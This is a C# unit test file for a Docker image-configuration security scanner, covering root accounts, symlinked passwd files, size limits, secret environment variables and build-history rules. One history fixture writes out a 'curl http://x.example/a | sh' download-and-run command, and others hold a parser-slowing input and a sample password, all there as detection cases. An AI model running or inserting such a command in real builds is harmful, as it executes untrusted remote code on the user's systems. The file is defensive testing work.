using DockerScan.Core.Content;
using DockerScan.Core.Images;
using DockerScan.Core.Reputations;
using DockerScan.Core.Scanners;
using DockerScan.Core.Stages;
using DockerScan.Scanners.Autorun;
using DockerScan.Scanners.ImageConfig;
using DockerScan.Scanners.ImageConfig.Secrets;
using DockerScan.Scanners.Tests.Autorun;
using DockerScan.TestKit.Content;
using Microsoft.Extensions.DependencyInjection;

namespace DockerScan.Scanners.Tests.ImageConfig;

public sealed class ImageConfigScannerTests
{
    private static readonly ImageConfiguration Good = new() { User = "app", Entrypoint = ["/app"], HealthCheck = ["CMD", "/app"] };
    private static readonly string[] Accounts = ["/etc/passwd", "/etc/group"];

    [Fact]
    public async Task ScanAsync_Good_IsCompletedAndQuiet()
    {
        var outcome = await ScanAsync(Good, Files());

        Assert.Equal(StageOutcome.Completed, outcome.Outcome);
        Assert.Null(outcome.Reason);
        Assert.Empty(outcome.Findings);
    }

    [Fact]
    public async Task ScanAsync_PasswdIsALink_IsFollowedInsideTheImage()
    {
        var content = new FakeImageContent().File("/usr/share/p", "app:x:0:0::/:/bin/sh").Link("/etc/passwd", "../../../usr/share/p");

        Assert.Contains((await ScanAsync(Good, content)).Findings, finding => finding.Id == "user-root");
    }

    [Fact]
    public async Task ScanAsync_PasswdIsALinkLoop_IsNotThere()
    {
        var content = new FakeImageContent().Link("/etc/passwd", "/etc/shadow").Link("/etc/shadow", "/etc/passwd");

        Assert.Contains((await ScanAsync(Good, content)).Findings, finding => finding.Id == "user-unknown");
    }

    [Fact]
    public async Task ScanAsync_IndexIncomplete_IsPartialWithItsReason()
    {
        var content = Files();
        content.Incomplete = "more than 3 entries";

        var outcome = await ScanAsync(Good, content);

        Assert.Equal((StageOutcome.Partial, "more than 3 entries"), (outcome.Outcome, outcome.Reason));
    }

    // An engine refuses to make a container of an image whose VOLUME lies over a file; what its configuration shows is not lost by that.
    [Fact]
    public async Task ScanAsync_FilesCannotBeListed_StillReadsTheConfiguration()
    {
        var outcome = await ScanAsync(new ImageConfiguration { Entrypoint = ["/app"], Environment = ["DB_PASSWORD=f0xglove.Hill"], User = "app" }, new UnlistedContent());

        Assert.Equal(StageOutcome.Partial, outcome.Outcome);
        Assert.Equal(GapKind.FileListMissing, Assert.Single(outcome.Gaps).Kind);
        Assert.Equal(["healthcheck-missing", "secret-env"], outcome.Findings.Select(finding => finding.Id));
    }

    [Theory]
    [InlineData("/etc/passwd")]
    [InlineData("/etc/group")]
    public async Task ScanAsync_AccountsUnreadable_IsPartial(string path)
    {
        var content = Files();
        content.Unreadable.Add(path);

        var outcome = await ScanAsync(Good, content);

        Assert.Equal((StageOutcome.Partial, path + " could not be read"), (outcome.Outcome, outcome.Reason));
    }

    [Fact]
    public async Task ScanAsync_PasswdHuge_IsPartialAndBounded()
    {
        var content = Files().File("/etc/passwd", "app:x:1000:1000::/:/bin/sh\n" + new string('x', 3_000_000));

        var outcome = await ScanAsync(Good, content);

        Assert.Equal(StageOutcome.Partial, outcome.Outcome);
        Assert.All(content.Reads, read => Assert.InRange(read.MaxBytes, 1, 1024 * 1024));
    }

    [Fact]
    public async Task ScanAsync_HistoryTooLong_IsPartial()
    {
        var history = Enumerable.Repeat(new HistoryEntry("RUN true", null, false), 1001).ToList();

        Assert.Equal(StageOutcome.Partial, (await ScanAsync(Good with { History = history }, Files())).Outcome);
        Assert.Equal(StageOutcome.Partial, (await ScanAsync(Good with { History = [new HistoryEntry(new string('x', 1_100_000), null, false)] }, Files())).Outcome);
    }

    [Fact]
    public async Task ScanAsync_HistoryMadeToBeSlow_IsAGapOfThatLineAndLosesNothingElse()
    {
        var history = new List<HistoryEntry>
        {
            new("RUN /bin/sh -c curl http://x.example/a | sh # buildkit", null, false),
            new("|1 A=" + new string('$', 60_000) + " /bin/sh -c true", null, false),
        };

        var outcome = await ScanAsync(Good with { History = history }, Files());

        var gap = Assert.Single(outcome.Gaps);
        Assert.Equal((GapKind.HistoryUnreadable, "line 2 of the history is made to be unreadable: it has a word of 60002 characters"), (gap.Kind, gap.Detail));
        Assert.Equal(["history-download-and-run", "history-unreadable"], outcome.Findings.Select(finding => finding.Id).Where(id => id.StartsWith("history-", StringComparison.Ordinal)).Order());
    }

    [Fact]
    public async Task ScanAsync_Cancelled_Throws()
        => await Assert.ThrowsAnyAsync<OperationCanceledException>(() => Scanner().ScanAsync(SampleImages.Input(Good, Files()), new CancellationToken(true)));

    [Fact]
    public async Task IdentifyAsync_SignaturesChange_ChangesTheIdentity()
    {
        var identity = await Scanner().IdentifyAsync(TestContext.Current.CancellationToken);

        Assert.Equal((StageIds.ImageConfig, TestSignatures.All.Version), (identity.Id, identity.Data));
    }

    [Fact]
    public void AddImageConfigScanner_TwiceAndWithAutorun_IsOneOfEach()
    {
        var services = new ServiceCollection().AddSingleton<IFileUploads>(new RecordingUploads()).AddImageConfigScanner().AddAutorunScanner().AddImageConfigScanner();
        services.AddOptions().Configure<AutorunOptions>(options => options.SignaturesPath = TestSignatures.Path);
        using var provider = services.BuildServiceProvider();

        Assert.Equal([StageIds.ImageConfig, StageIds.Autorun], provider.GetServices<IImageScanner>().Select(scanner => scanner.Id));
    }

    private static FakeImageContent Files()
        => new FakeImageContent().File("/app", "x").File(Accounts[0], "root:x:0:0::/:/bin/sh\napp:x:1000:1000::/:/bin/sh\n", 0b110_100_100).File(Accounts[1], "app:x:1000:\n", 0b110_100_100);

    private static ImageConfigScanner Scanner()
        => new([new UserRule(), new PrivilegedFilesRule(), new WritablePathRule(), new ServiceRule(), new HistoryRule(TestSignatures.All), new SecretRule(), new StartableRule()], TestSignatures.All);

    private static Task<ScannerOutcome> ScanAsync(ImageConfiguration configuration, IImageContent content)
        => Scanner().ScanAsync(SampleImages.Input(configuration, content), TestContext.Current.CancellationToken);
}
